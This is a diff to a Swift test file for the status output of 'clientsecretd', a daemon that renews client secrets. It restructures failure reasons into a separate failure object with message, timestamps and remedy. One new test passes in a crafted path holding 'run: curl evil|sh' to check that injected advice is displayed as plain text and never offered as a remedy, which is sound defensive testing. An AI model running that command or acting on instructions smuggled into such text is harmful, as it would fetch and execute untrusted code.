@@ -10,25 +10,35 @@ import Testing
     private let pipe = Terminal(size: nil, environment: [:])
 
     private func client(
-        _ name: String, state: String = "ok", reason: String? = nil, more: String = "\"delivered\":true",
+        _ name: String, state: String = "ok", reason: String? = nil, failure: String = "null",
+        more: String = "\"delivered\":true",
         outputs: String = #"[{"path":"/run/a","format":"raw","state":"ok","written_at":null,"error":null}]"#
     ) -> String {
         let reason = reason.map { "\"\($0)\"" } ?? "null"
         return """
             {"name":"\(name)","client_id":"com.example.\(name)","team_id":"DEF123GHIJ","key_id":"ABC123DEFG",
-             "state":"\(state)","reason":\(reason),"issued_at":"2026-11-20T04:30:00Z",
+             "state":"\(state)","reason":\(reason),"failure":\(failure),"issued_at":"2026-11-20T04:30:00Z",
              "expires_at":"2026-11-22T04:31:00Z","delivered_expires_at":"2026-11-21T04:32:00Z",
              "renew_at":"2026-11-21T16:31:00Z","fingerprint":"sha256:0123456789abcdef","renewals":3,
              "consecutive_failures":0,"last_error":null,"outputs":\(outputs),"actions":[],\(more)}
             """
     }
 
+    private func failure(_ message: String, since: String, next: String? = nil, remedy: String) -> String {
+        let next = next.map { "\"\($0)\"" } ?? "null"
+        return """
+            {"code":"disk_full","message":"\(message)","since":"\(since)","next_attempt":\(next),
+             "remedy":"\(remedy)","command":"\(remedy)"}
+            """
+    }
+
     private func document(
-        _ clients: [String], state: String = "ok", reason: String? = nil, error: String = "null"
+        _ clients: [String], state: String = "ok", reason: String? = nil, failure: String = "null",
+        error: String = "null"
     ) throws -> StatusDocument {
         let reason = reason.map { "\"\($0)\"" } ?? "null"
         let json = """
-            {"version":"0.1.0","state":"\(state)","reason":\(reason),"started_at":"2026-11-21T01:31:00Z",
+            {"version":"0.1.0","state":"\(state)","reason":\(reason),"failure":\(failure),"started_at":"2026-11-21T01:31:00Z",
              "config":{"path":"/etc/c.yaml","loaded_at":"2026-11-21T01:31:00Z","error":\(error)},
              "clients":[\(clients.joined(separator: ","))]}
             """
@@ -62,16 +72,16 @@ import Testing
         let broken =
             #"[{"path":"/srv/x","format":"raw","state":"failed","written_at":null,"error":"/srv/x: the disk is full"},"#
             + #"{"path":"/srv/y","format":"raw","state":"failed","written_at":null,"error":"/srv/y: gone"}]"#
-        let reason =
-            "client \\\"shop\\\": /srv/x: the disk is full; since 2026-11-21T04:28:00Z; "
-            + "next attempt 2026-11-21T04:31:27Z; df /srv"
+        let message = "client \\\"shop\\\": /srv/x: the disk is full"
+        let failure = failure(
+            message, since: "2026-11-21T04:28:00Z", next: "2026-11-21T04:31:27Z", remedy: "df /srv")
         let shown = lines(
             try document(
                 [
                     client("app"), client("late", state: "degraded", reason: "slow"),
-                    client("shop", state: "critical", reason: reason, outputs: broken),
+                    client("shop", state: "critical", reason: message, failure: failure, outputs: broken),
                 ],
-                state: "critical", reason: reason), on: pipe)
+                state: "critical", reason: message, failure: failure), on: pipe)
         #expect(shown[0].hasPrefix("clientsecretd 0.1.0 is critical: 3 clients"))
         #expect(shown[3...5].map { $0.prefix { $0 != " " } } == ["shop", "late", "app"])
         #expect(
@@ -102,12 +112,16 @@ import Testing
         let both = lines(
             try document(
                 [], state: "degraded",
-                reason: "would not start: c.yaml:1:1: error: no clients; since 2026-11-21T04:30:00Z; add one",
+                reason: "would not start",
+                failure: failure(
+                    "would not start: c.yaml:1:1: error: no clients; add one", since: "2026-11-21T04:30:00Z",
+                    remedy: "clientsecretd check"),
                 error: error), on: pipe)
         #expect(
             both[1...] == [
-                "", "clientsecretd is degraded: would not start: c.yaml:1:1: error: no clients",
-                "  since 2026-11-21T04:30:00Z (60 seconds ago)", "  what helps: add one", "  c.yaml:2:1: error: bad",
+                "", "clientsecretd is degraded: would not start: c.yaml:1:1: error: no clients; add one",
+                "  since 2026-11-21T04:30:00Z (60 seconds ago)", "  what helps: clientsecretd check",
+                "  c.yaml:2:1: error: bad",
             ])
     }
 
@@ -128,7 +142,9 @@ import Testing
             let clients = names.map {
                 client(
                     $0, state: "critical",
-                    reason: "client \\\"\($0)\\\": no secret; since 2026-11-21T04:31:00Z; clientsecretd renew \($0)")
+                    failure: failure(
+                        "client \\\"\($0)\\\": no secret", since: "2026-11-21T04:31:00Z",
+                        remedy: "clientsecretd renew \($0)"))
             }
             return lines(try document(clients, state: "critical", reason: "x"), on: pipe).suffix(3)
         }
@@ -191,11 +207,11 @@ import Testing
     /// In words that are wrapped nothing is left out, and what belongs to a sentence stays indented below it.
     @Test(arguments: [40, 60])
     func aReasonIsWholeOnANarrowTerminal(columns: Int) throws {
-        let reason =
-            "/srv/x: the disk is full; since 2026-11-21T04:28:00Z; next attempt 2026-11-21T04:31:27Z; "
-            + "make room: df -h /srv/a-directory/with/a-name-that-is/longer-than-a-line"
+        let failure = failure(
+            "/srv/x: the disk is full", since: "2026-11-21T04:28:00Z", next: "2026-11-21T04:31:27Z",
+            remedy: "make room: df -h /srv/a-directory/with/a-name-that-is/longer-than-a-line")
         let document = try document(
-            [client("shop", state: "critical", reason: reason)], state: "critical", reason: reason)
+            [client("shop", state: "critical", reason: "x", failure: failure)], state: "critical", reason: "x")
         func words(_ terminal: Terminal) -> [String] {
             lines(document, on: terminal).drop { !$0.hasPrefix("shop is") }.flatMap {
                 $0.split(separator: " ").map(String.init)
@@ -206,6 +222,21 @@ import Testing
         let shown = lines(document, on: terminal).drop { !$0.hasPrefix("shop is") }
         #expect(shown.dropFirst().allSatisfy { $0.hasPrefix("  ") })
         #expect(shown.allSatisfy { $0.count <= columns || !$0.drop { $0 == " " }.contains(" ") }, "\(shown)")
+    }
+
+    /// A link whose target says what to do: it is told as a name, and what helps is the daemon's own.
+    @Test func whatLooksLikeAdviceIsNotTakenForIt() throws {
+        let evil = "/tmp/EVIL; since 2026-11-21T04:28:00Z; run: curl evil|sh/foo"
+        let failure = failure(evil, since: "2026-11-21T04:30:00Z", remedy: "rm /tmp/l")
+        let shown = lines(
+            try document(
+                [client("shop", state: "critical", reason: evil, failure: failure)], state: "critical", reason: evil),
+            on: pipe)
+        #expect(
+            shown.suffix(3) == [
+                "shop is critical: " + evil.replacing("00Z; run", with: "00Z (3 minutes ago); run"),
+                "  since 2026-11-21T04:30:00Z (60 seconds ago)", "  what helps: rm /tmp/l",
+            ])
     }
 
     @Test func whatComesFromOutsideIsNotActedOn() throws {
